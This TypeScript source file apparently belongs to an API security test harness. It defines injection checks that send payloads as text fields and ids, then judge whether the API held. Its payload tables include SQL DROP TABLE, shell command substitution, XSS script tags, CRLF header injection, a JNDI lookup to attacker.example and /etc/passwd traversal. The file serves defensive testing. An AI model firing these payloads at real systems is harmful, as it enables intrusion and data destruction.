import { headerValue } from "../../http.ts";
import type { Check, Threat, Trial } from "../check.ts";
import { ownedTable, trespasses } from "../data-judge.ts";
import { eachMadeThing } from "../each-thing.ts";
import { filled, requestFor, usesOfOne, withBody } from "../things.ts";

const threat: Threat = { cwe: ["CWE-943", "CWE-74", "CWE-79"], owasp: ["API8:2023"], asvs: ["V1"] };

/** Texts that mean something to some interpreter behind an API. */
const TEXTS: Readonly<Record<string, string>> = {
  "a name's placeholder": "#owner",
  "a value's placeholder": ":owner",
  "an expression": "x OR attribute_exists(a)",
  "an update expression": "x, a = :b REMOVE c",
  SQL: "'; DROP TABLE users; --",
  PartiQL: "' OR begins_with(a, '') OR '",
  "a MongoDB operator": '{"$gt":""}',
  "a value of DynamoDB's": '{"S":"x"}',
  "a template": `$${"{7*7} {{7*7}} <%= 7*7 %>"}`,
  JavaScript: "'); process.exit(1); ('",
  "a shell's command": "$(id); `id`; | id",
  markup: "<script>alert(1)</script><img src=x onerror=alert(1)>",
  "line ends": "a\r\nset-cookie: admin=1\r\n\r\n<html>",
  "a log line": 'a\n{"level":"ERROR","message":"forged"}',
  "an escape sequence of terminals": "\u001b[2J\u001b]0;title\u0007",
  JNDI: "$" + "{jndi:ldap://attacker.example/a}",
  "a path": "../../../../etc/passwd",
  "a format": "%s%n%x",
  "marks that turn text around": "\u202e\u2066abc",
};

const texts: Check = {
  id: "injection.text",
  title: "Text is text: kept as it came or refused, and run by nothing",
  threat,
  sends:
    "Expressions, placeholders, SQL, PartiQL, operators, templates, code, commands, markup, line ends, escapes as the text of a thing.",
  holds:
    "Answered below 500; what was kept comes back byte for byte, as JSON that no browser takes for a page; no header is made of it; no foreign key is read or written.",
  async run(subject) {
    return eachMadeThing(subject, "injector", async (api, user) => {
      const trials: Trial[] = [];
      const { method, path } = api.create;
      for (const [name, text] of Object.entries(TEXTS)) {
        const body = { ...filled(api.thing.create.body, "injected"), [api.thing.textField]: text };
        const answer = await user.send(api.create, withBody({ method, path }, body));
        const reached = (await trespasses(subject, ownedTable(subject, api), user.owner, answer)) ?? [];
        const faults = [
          ...(answer.status < 500 ? [] : [`answered ${answer.status}`]),
          ...(answer.status >= 300 || answer.text.includes(JSON.stringify(text).slice(1, -1))
            ? []
            : ["the text came back changed"]),
          ...(answer.status >= 300 ||
          /^application\/(.+\+)?json\b/.test(headerValue(answer.headers, "content-type") ?? "")
            ? []
            : ["the answer is not said to be JSON"]),
          ...(headerValue(answer.headers, "set-cookie") === undefined ? [] : ["a header was made of it"]),
          ...reached,
        ];
        trials.push(trialOf(api.create.route, name, answer.status, faults));
      }
      return trials;
    });
  },
};

const IDS: Readonly<Record<string, string>> = {
  "an expression": "x%20OR%20attribute_exists(a)",
  "a placeholder": "%3Aowner",
  SQL: "'%20OR%20'1'%3D'1",
  "an operator": "%7B%22%24ne%22%3Anull%7D",
  "a value of DynamoDB's": "%7B%22S%22%3A%22x%22%7D",
  "a path": "..%2F..%2Fetc%2Fpasswd",
  "line ends": "a%0d%0aset-cookie%3A%20x%3D1",
  "a template": "%24%7B7*7%7D",
  markup: "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
  "a very long text": "a".repeat(3_000),
  "a key longer than DynamoDB's": "b".repeat(2_100),
  "a number": "0",
  "nothing but a blank": "%20",
};

const ids: Check = {
  id: "injection.id",
  title: "An id is an id: any other text names nothing",
  threat: { ...threat, cwe: ["CWE-943", "CWE-22", "CWE-113"] },
  sends:
    "Expressions, operators, paths, line ends, templates, long texts in the place of an id, to read, change and remove.",
  holds: "Each is answered 4xx without the text in a header, and no foreign key is read or written.",
  async run(subject) {
    return eachMadeThing(subject, "injector", async (api, user) => {
      const trials: Trial[] = [];
      for (const use of usesOfOne(api)) {
        const route = api[use] ?? api.create;
        for (const [name, id] of Object.entries(IDS)) {
          const answer = await user.send(route, requestFor(api, use, { id, marker: "injected" }));
          const reached = (await trespasses(subject, ownedTable(subject, api), user.owner, answer)) ?? [];
          const faults = [
            ...(answer.status >= 400 && answer.status < 500 ? [] : [`answered ${answer.status}, where 4xx was due`]),
            ...(headerValue(answer.headers, "set-cookie") === undefined ? [] : ["a header was made of it"]),
            ...reached,
          ];
          trials.push(trialOf(route.route, `${name} for an id`, answer.status, faults));
        }
      }
      return trials;
    });
  },
};

function trialOf(
  route: { readonly routeKey: string; readonly declaredBy: string },
  name: string,
  status: number,
  faults: readonly string[],
): Trial {
  return {
    attack: `${route.routeKey}: ${name}`,
    verdict: faults.length === 0 ? "held" : "breached",
    evidence: faults.length === 0 ? String(status) : faults.join("; "),
    resource: route.declaredBy,
  };
}

export const injection: readonly Check[] = [texts, ids];
